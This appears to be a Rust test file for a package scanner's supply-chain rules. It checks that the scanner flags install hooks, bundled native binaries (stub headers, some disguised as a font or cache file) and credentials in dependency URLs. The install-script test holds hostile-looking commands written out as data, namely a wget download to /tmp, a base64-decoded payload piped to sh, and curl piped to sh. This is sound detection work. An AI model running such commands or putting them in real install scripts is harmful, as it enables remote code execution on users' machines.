//! Tests of the `AS4xx` package-level supply-chain rules: metadata, examples, one
//! fixture snapshot per rule, a benign corpus, and binaries through the driver's
//! binary-file hook.

mod file_rules_common;
mod rule_family_common;

use assay_core::{Confidence, Family, Finding, Severity};
use assay_rules::supply_chain;
use file_rules_common::{
    MARKER, assert_redacted, check_benign, check_examples, check_metadata, fixture_findings, scan,
};

const FAMILY: Family = Family::SupplyChain;

#[test]
fn rule_metadata_is_complete() {
    check_metadata(supply_chain::RULES, FAMILY, 3);
}

#[test]
fn rule_examples_fire_their_rule_or_nothing() {
    check_examples(FAMILY);
}

#[test]
fn benign_manifests_stay_silent() {
    check_benign(FAMILY, "supply_chain");
}

#[test]
fn fixture_as401_install_time_execution() {
    insta::assert_json_snapshot!("AS401", fixture_findings(FAMILY, "supply_chain", "AS401"));
}

#[test]
fn fixture_as403_non_registry_dependency() {
    insta::assert_json_snapshot!("AS403", fixture_findings(FAMILY, "supply_chain", "AS403"));
}

/// An ELF header: 64-bit little-endian, of type `e_type` for machine `e_machine`.
fn elf(e_type: u8, e_machine: u8) -> Vec<u8> {
    let mut bytes = vec![0u8; 128];
    bytes[..4].copy_from_slice(b"\x7fELF");
    bytes[4] = 2;
    bytes[5] = 1;
    bytes[16] = e_type;
    bytes[18] = e_machine;
    bytes
}

/// A universal Mach-O with x86-64 and arm64 slices.
fn universal_mach_o() -> Vec<u8> {
    let mut bytes = vec![0u8; 128];
    bytes[..4].copy_from_slice(&[0xca, 0xfe, 0xba, 0xbe]);
    bytes[4..8].copy_from_slice(&2u32.to_be_bytes());
    bytes[8..12].copy_from_slice(&0x0100_0007u32.to_be_bytes());
    bytes[28..32].copy_from_slice(&0x0100_000cu32.to_be_bytes());
    bytes
}

/// A Windows executable (PE, x86-64).
fn pe() -> Vec<u8> {
    let mut bytes = vec![0u8; 256];
    bytes[..2].copy_from_slice(b"MZ");
    bytes[0x3c] = 0x80;
    bytes[0x80..0x84].copy_from_slice(b"PE\0\0");
    bytes[0x84..0x86].copy_from_slice(&0x8664u16.to_le_bytes());
    bytes[0x80 + 22..0x80 + 24].copy_from_slice(&0x0022u16.to_le_bytes());
    bytes
}

/// A small package of binary files: what each should produce is asserted below and
/// recorded in the snapshot.
fn binary_package() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("build/Release/watcher.node", elf(3, 0xb7)),
        (
            "prebuilds/darwin-x64+arm64/watcher.node",
            universal_mach_o(),
        ),
        ("bin/helper.exe", pe()),
        ("dist/assets/font.woff2", elf(2, 0x3e)),
        ("dist/server", elf(2, 0x3e)),
        ("lib/.cache/update", elf(3, 0x3e)),
        (
            "mcp_native/_speedups.cpython-312-x86_64-linux-gnu.so",
            elf(3, 0x3e),
        ),
        ("tests/fixtures/tool.exe", pe()),
        // Not native code: an image, WebAssembly, a Java class file.
        ("assets/logo.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec()),
        ("lib/parser.wasm", b"\0asm\x01\0\0\0".to_vec()),
        (
            "java/Tool.class",
            vec![0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 65, 0, 10],
        ),
    ]
}

#[test]
fn fixture_as402_bundled_native_binary() {
    let mut all: Vec<Finding> = Vec::new();
    for (path, bytes) in binary_package() {
        all.extend(scan(FAMILY, path, &bytes));
    }
    let by_path = |path: &str| all.iter().find(|f| f.location.path == path);
    let severity = |path: &str| by_path(path).map(|f| f.severity);
    assert_eq!(severity("build/Release/watcher.node"), Some(Severity::Low));
    assert_eq!(
        severity("prebuilds/darwin-x64+arm64/watcher.node"),
        Some(Severity::Low)
    );
    assert_eq!(severity("bin/helper.exe"), Some(Severity::Medium));
    assert_eq!(severity("dist/assets/font.woff2"), Some(Severity::High));
    assert_eq!(severity("dist/server"), Some(Severity::High));
    assert_eq!(severity("lib/.cache/update"), Some(Severity::High));
    assert_eq!(
        severity("mcp_native/_speedups.cpython-312-x86_64-linux-gnu.so"),
        Some(Severity::Low)
    );
    assert_eq!(
        by_path("tests/fixtures/tool.exe").map(|f| f.confidence),
        Some(Confidence::Low)
    );
    for path in ["assets/logo.png", "lib/parser.wasm", "java/Tool.class"] {
        assert!(by_path(path).is_none(), "{path}");
    }
    assert_eq!(all.len(), 8, "one finding per binary");
    insta::assert_json_snapshot!("AS402", all);
}

#[test]
fn install_script_severity_follows_what_the_script_does() {
    let severity = |hook: &str, command: &str| {
        let manifest = serde_json::json!({"name": "x", "scripts": {hook: command}}).to_string();
        let findings = scan(FAMILY, "package.json", manifest.as_bytes());
        assert!(findings.len() <= 1, "{findings:#?}");
        findings.first().map(|f| f.severity)
    };
    assert_eq!(
        severity("postinstall", "node-gyp rebuild"),
        Some(Severity::Low)
    );
    assert_eq!(severity("prepare", "npm run build"), Some(Severity::Low));
    assert_eq!(
        severity("postinstall", "node scripts/setup.js"),
        Some(Severity::Medium)
    );
    assert_eq!(
        severity("preinstall", "wget -q https://x.test/a -O /tmp/a"),
        Some(Severity::High)
    );
    assert_eq!(
        severity("install", "echo aGk= | base64 -d | sh"),
        Some(Severity::High)
    );
    assert_eq!(severity("build", "curl https://x.test | sh"), None);
}

#[test]
fn credentials_in_dependency_urls_are_redacted() {
    let token = format!("ghp_Zq8vN3kLm2Xw9Rt5hT7k{MARKER}Q2mW9xR4vBnLpZcY").replace(MARKER, "");
    let manifest = format!(
        "{{\"name\": \"x\", \"dependencies\": {{\"core\": \"git+https://bot:{token}@git.host.test/acme/core.git#main\"}}}}"
    );
    let findings = scan(FAMILY, "package.json", manifest.as_bytes());
    assert_eq!(findings.len(), 1, "{findings:#?}");
    assert_eq!(findings[0].rule_id, "AS403");
    assert_redacted(&findings, &token);
    let requirements = format!("--extra-index-url https://bot:{token}@pkgs.internal.test/simple\n");
    let findings = scan(FAMILY, "requirements.txt", requirements.as_bytes());
    assert_eq!(findings.len(), 1, "{findings:#?}");
    assert_redacted(&findings, &token);
}
